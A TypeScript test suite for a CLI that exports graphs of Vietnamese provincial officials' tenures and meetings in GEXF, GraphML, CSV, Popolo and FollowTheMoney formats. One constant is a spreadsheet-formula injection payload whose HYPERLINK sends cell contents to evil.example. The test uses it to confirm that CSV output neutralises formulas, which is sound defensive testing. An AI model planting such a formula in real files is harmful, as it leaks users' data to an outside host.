// `cadregraph export` as a user runs it, over a graph ingested from the fixture articles (and one
// article of our own whose title is a spreadsheet formula); every file is read back with the
// tools its users have (see tests/export/read-back.ts).
import { spawnSync } from 'child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { EXPORT_FORMATS } from '../../src/export';
import { expectInert, gexfGraph, gexfIntervals, graphmlGraph, readCsv, readFtm, readPopolo } from '../export/read-back';
import { ROOT, runCli } from '../helpers/cli';

const tmp = mkdtempSync(join(tmpdir(), 'cadregraph-export-'));
const data = join(tmp, 'data');
const PAYLOAD = '-1+HYPERLINK("https://evil.example/?q="&A1,"xem")';

beforeAll(() => {
  // Our own article: a meeting whose page title is a formula, with a tab and an @ in the text.
  const own = join(tmp, 'own');
  mkdirSync(own);
  writeFileSync(join(own, 'ben-tre.txt'), [
    'Hội nghị sơ kết công tác dân vận',
    'Sáng 12/3/2024, Bí thư Tỉnh ủy Bến Tre Ngô Thành Sơn chủ trì hội nghị sơ kết công tác dân vận quý I.',
    'Cùng dự có Phó Chủ tịch UBND tỉnh Trần Văn Khải và Trưởng ban Dân vận Tỉnh ủy Lê Thị Mai.',
  ].join('\n'));
  writeFileSync(join(own, 'ben-tre.meta.json'), JSON.stringify({ url: 'https://example.vn/ben-tre/2024-03-12', title: PAYLOAD, publishedAt: '2024-03-12', province: 'Bến Tre' }));
  const r = runCli(['ingest', join(ROOT, 'tests', 'fixtures', 'articles'), join(ROOT, 'tests', 'fixtures', 'careers'), join(ROOT, 'seeds'), own, '--data', data]);
  expect(r.status).toBe(0);
});
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const exportOf = (province: string, format: string) => runCli(['export', '--province', province, '--format', format, '--data', data]);
const exportAll = (format: string) => runCli(['export', '--all', '--format', format, '--data', data]);
const ok = (r: { status: number | null; stdout: string; stderr: string }) => {
  expect(r.stderr).toBe('');
  expect(r.status).toBe(0);
  return r.stdout;
};

describe('cadregraph export --province', () => {
  it('GEXF of Hà Nội (typed without diacritics): its leaders, their meeting, their titles and dates on HOLDS edges', () => {
    const g = gexfGraph(ok(exportOf('ha noi', 'gexf')));
    const label = (id: string) => g.getNodeAttribute(id, 'label');
    const people = g.filterNodes((_, a) => a.kind === 'PERSON').map(label);
    expect(people).toEqual(expect.arrayContaining(['Đinh Tiến Dũng', 'Trần Sỹ Thanh', 'Nguyễn Văn Phong', 'Vũ Đăng Khoa']));
    expect(people).not.toContain('Lê Hồng Quang');
    const dung = g.findNode((_, a) => a.label === 'Đinh Tiến Dũng')!;
    const thanh = g.findNode((_, a) => a.label === 'Trần Sỹ Thanh')!;
    const met = [...new Set([...g.edges(dung, thanh), ...g.edges(thanh, dung)])].filter((e) => g.getEdgeAttribute(e, 'relation') === 'MET');
    expect(met).toHaveLength(1);
    expect(g.getEdgeAttribute(met[0], 'weight')).toBeGreaterThanOrEqual(1);
    const party = g.findNode((_, a) => a.kind === 'ORGANIZATION' && a.label === 'Thành ủy Hà Nội')!;
    expect(g.getNodeAttributes(party)).toMatchObject({ level: 'PROVINCE', category: 'party-committee', place: 'Hà Nội' });
    const holds = g.edges(dung, party).map((e) => g.getEdgeAttributes(e)).find((a) => a.relation === 'HOLDS');
    expect(holds).toMatchObject({ title: 'Bí thư', startBasis: expect.any(String), endBasis: expect.any(String), state: expect.any(String) });
    expect(holds!.start).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(holds!.end).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(holds!.firstSeen).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    const meeting = g.findNode((_, a) => a.kind === 'MEETING')!;
    expect(g.getNodeAttribute(meeting, 'date')).toMatch(/^\d{4}-\d{2}-\d{2}$/);
  });

  it('dynamic GEXF and GraphML describe the same network as GEXF; JSON holds its people', () => {
    const gexf = gexfGraph(ok(exportOf('Hà Nội', 'gexf')));
    const dynamicText = ok(exportOf('Hà Nội', 'gexf-dynamic'));
    const dynamic = gexfGraph(dynamicText);
    const graphml = graphmlGraph(ok(exportOf('Hà Nội', 'graphml')));
    for (const g of [dynamic, graphml]) expect([g.order, g.size]).toEqual([gexf.order, gexf.size]);
    const intervals = gexfIntervals(dynamicText);
    expect(intervals.mode).toBe('dynamic');
    expect(intervals.edges.filter((e) => e.start).length).toBe(intervals.edges.length);
    const json = JSON.parse(ok(exportOf('Hà Nội', 'json')));
    expect(json.scope).toBe('Hà Nội');
    expect(json.people.map((p: { id: string }) => p.id).every((id: string) => gexf.hasNode(id))).toBe(true);
    expect(json.tenures.length).toBeGreaterThan(3);
  });

  it('CSV of tenures: who holds what in which body, since when and on what basis, with a quote and sources', () => {
    const text = ok(exportOf('An Giang', 'csv-tenures'));
    const { rows } = readCsv(text);
    expect(text.split('\r\n')[0]).toBe('\ufeffperson_id,person,title,organization_id,organization,province,district,status,current,first_seen,last_seen,source_urls,source_articles,position_id,state,start,start_basis,end,end_basis,citations,quote');
    expect(rows.find((r) => r.person === 'Lê Hồng Quang')).toMatchObject({
      title: 'Bí thư', organization_id: 'org/an-giang/tinh-uy', organization: 'Tỉnh ủy An Giang', province: 'An Giang', status: 'CURRENT', current: 'true',
      first_seen: '2021-06-09', start: '2021-06-09', start_basis: 'FIRST_SEEN', source_urls: 'https://example.vn/an-giang/2021-06-09-dan-van',
      quote: expect.stringContaining('Lê Hồng Quang'),
    });
    expect(rows.every((r) => r.province === 'An Giang')).toBe(true);
  });

  it('CSV of meeting participation: one row per person and meeting, chairs marked', () => {
    const { header, rows } = readCsv(ok(exportOf('An Giang', 'csv-meetings')));
    expect(header).toEqual(['meeting_id', 'date', 'meeting', 'meeting_kind', 'locality', 'person_id', 'person', 'chair', 'roles', 'source_urls', 'source_articles', 'quote']);
    expect(rows.length).toBeGreaterThanOrEqual(5);
    expect(rows.find((r) => r.person === 'Lê Hồng Quang')).toMatchObject({ chair: 'true', roles: expect.stringContaining('CHAIRED') });
    expect(rows.find((r) => r.person === 'Nguyễn Tiếc Hùng')).toMatchObject({ chair: 'false', roles: expect.stringMatching(/^ATTENDED/) });
  });

  it('the person-year-post panel of Quảng Trị spans a tenure\'s years between its bounds, with declared and successor ends', () => {
    const { rows } = readCsv(ok(exportOf('Quảng Trị', 'csv-panel')));
    const khai = rows.filter((r) => r.person === 'Lê Minh Khải' && r.title === 'Chủ tịch');
    expect(khai.map((r) => r.year)).toEqual(['2022', '2023', '2024']);
    expect(khai[0]).toMatchObject({ end: '2024-02-28', end_basis: 'SUCCESSOR_SEEN', state: 'ENDED' });
    expect(khai.map((r) => r.cited_in_year)).toEqual(['1', '0', '0']);
    expect(rows.find((r) => r.person === 'Trần Thị Thu Hà' && r.title === 'Giám đốc')).toMatchObject({ start: '2024-03-01', start_basis: 'DECLARED' });
    expect(rows.every((r) => r.source_urls.startsWith('https://'))).toBe(true);
  });

  it('yearly co-attendance of An Giang: every pair at its meeting, in its year', () => {
    const { rows } = readCsv(ok(exportOf('An Giang', 'csv-coattendance')));
    expect(rows.length).toBeGreaterThanOrEqual(10);
    expect(rows.every((r) => r.year === '2021' && r.meetings === '1' && r.person_a_id < r.person_b_id)).toBe(true);
  });

  it('Popolo and FollowTheMoney of Quảng Trị pass their checks and carry the tenures\' dates and sources', () => {
    const popolo = readPopolo(ok(exportOf('Quảng Trị', 'popolo')));
    expect(popolo.memberships.find((m) => m.role === 'Giám đốc' && m.start_date === '2024-03-01')).toBeDefined();
    expect(popolo.events.some((e) => e.type === 'personnel')).toBe(true);
    const ftm = readFtm(ok(exportOf('Quảng Trị', 'ftm')));
    const occupancies = ftm.filter((e) => e.schema === 'Occupancy');
    expect(occupancies.length).toBe(popolo.memberships.length);
    expect(occupancies.every((o) => o.properties.sourceUrl?.length)).toBe(true);
    expect(ftm.some((e) => e.schema === 'Event' && e.properties.involved?.length)).toBe(true);
  });

  it('a meeting title that is a formula is inert text in every CSV', () => {
    const text = ok(exportOf('Bến Tre', 'csv-meetings'));
    const { rows } = readCsv(text);
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.every((r) => r.meeting === `'${PAYLOAD}`)).toBe(true);
    expectInert(text);
  });

  it('an unknown province or format, or no scope, is a one-line error with exit 2 and nothing on stdout', () => {
    const cases: Array<[string[], RegExp]> = [
      [['--province', 'Narnia', '--format', 'gexf'], /no body or meeting of province "Narnia".*An Giang/],
      [['--province', 'An Giang', '--format', 'xlsx'], /--format must be one of gexf, gexf-dynamic, graphml, json, csv-tenures, csv-meetings, csv-panel, csv-coattendance, popolo, ftm/],
      [['--province', 'An Giang', '--all'], /--province or --all, not both/],
      [['--format', 'gexf'], /give --province <name> or --all/],
    ];
    for (const [args, message] of cases) {
      const r = runCli(['export', ...args, '--data', data]);
      expect(r.status).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect(r.stderr).toMatch(message);
    }
  });
});

describe('cadregraph export --all', () => {
  const provinces = ['An Giang', 'Hà Nội', 'Quảng Trị', 'Bến Tre'];

  it('every format of the whole graph reads back, with every province in it, nothing twice', () => {
    const files = new Map<string, string>();
    for (const format of EXPORT_FORMATS) {
      const text = ok(exportAll(format));
      files.set(format, text);
      if (format === 'gexf' || format === 'gexf-dynamic') expect(gexfGraph(text).order).toBeGreaterThan(100);
      if (format === 'graphml') expect(graphmlGraph(text).order).toBeGreaterThan(100);
      if (format.startsWith('csv-')) expect(readCsv(text).rows.length).toBeGreaterThan(10);
      if (format === 'popolo') readPopolo(text);
      if (format === 'ftm') readFtm(text);
    }
    const tenures = readCsv(files.get('csv-tenures')!).rows;
    const keys = tenures.map((r) => `${r.person_id}|${r.position_id}`);
    expect(new Set(keys).size).toBe(keys.length);
    for (const p of provinces) expect(tenures.some((r) => r.province === p)).toBe(true);
    // The whole graph holds what each province's export holds.
    for (const p of ['Quảng Trị', 'Bến Tre']) {
      const one = readCsv(ok(exportOf(p, 'csv-tenures'))).rows.map((r) => `${r.person_id}|${r.position_id}`);
      expect(keys).toEqual(expect.arrayContaining(one));
    }
    const meetings = readCsv(files.get('csv-meetings')!).rows.map((r) => `${r.meeting_id}|${r.person_id}`);
    expect(new Set(meetings).size).toBe(meetings.length);
  });

  it('stops quietly when the reader closes the pipe early', () => {
    const r = spawnSync('bash', ['-c', `set -o pipefail; node ${join(ROOT, 'bin', 'cadregraph.js')} export --all --format gexf --data ${data} | head -c 100 > /dev/null`], { encoding: 'utf8' });
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
  });
});
